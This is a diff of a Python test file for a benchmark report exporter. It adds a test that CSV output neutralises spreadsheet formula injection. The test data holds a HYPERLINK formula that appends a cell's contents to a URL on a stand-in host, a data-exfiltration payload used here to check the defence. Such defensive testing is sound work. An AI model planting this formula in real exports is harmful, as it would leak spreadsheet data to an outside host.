@@ -28,7 +28,6 @@ from weighbridge.report.document import (
     RunInfo,
 )
 from weighbridge.report.parquet import write_parquet
-from weighbridge.store.database import StoreError
 
 BEFORE = (
     "language,runner,target,codec,variant,format,library,library_version,operation,payload,fidelity,losses,bytes,"
@@ -111,6 +110,28 @@ def test_what_was_not_measured_is_empty() -> None:
     assert (short["compressed_gzip_bytes"], short["compressed_zstd_dict_bytes"]) == ("41", "")
     for name in ("relative", "relative_to", "relative_low", "compressed_zstd_bytes", "released", "losses"):
         assert row[name] == ""
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
+def test_no_text_is_a_formula_and_numbers_stay_numbers(begins: str) -> None:
+    name = f'{begins}HYPERLINK("http://a.example/?"&A1,"x")'
+    below = NetTime(estimate=-2.5, low=-4.0, high=-1.0, at_most=False)
+    cell = a_cell(codec=name, variant=name, payload=name, library_version=name, losses=(name,), net_ns=below)
+    for layout in ("cells", "schemaless"):
+        for row in read(to_csv(a_document(cell.model_copy(update={"operation": "decode"})), layout=layout)):
+            assert not any(value.startswith(begins) for value in row.values() if value and not _is_number(value))
+            assert any(value.startswith(f"'{begins}") for value in row.values())
+            assert "-2.5" in row.values() or "-0.0025" in row.values()
+    (pair,) = read(to_csv(a_document(*board_cells(name, TIMES, SIZES)), layout="arduino"))
+    assert (pair["name"], pair["deserTimeJson"]) == (f"'{name}", "226.0")
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
 
 
 def test_one_library_on_one_board_gives_the_lines_of_the_firmware() -> None:
@@ -254,7 +275,7 @@ def test_a_run_without_cells_is_an_empty_table_of_the_same_columns(tmp_path: Pat
 
 def test_a_parquet_file_that_cannot_be_written_is_named(tmp_path: Path) -> None:
     (tmp_path / "no-folder").touch()
-    with pytest.raises(StoreError, match=r"no-folder/run\.parquet cannot be written"):
+    with pytest.raises(OSError, match=r"Not a directory.*no-folder/run\.parquet"):
         write_parquet(a_document(), tmp_path / "no-folder" / "run.parquet")
 
 
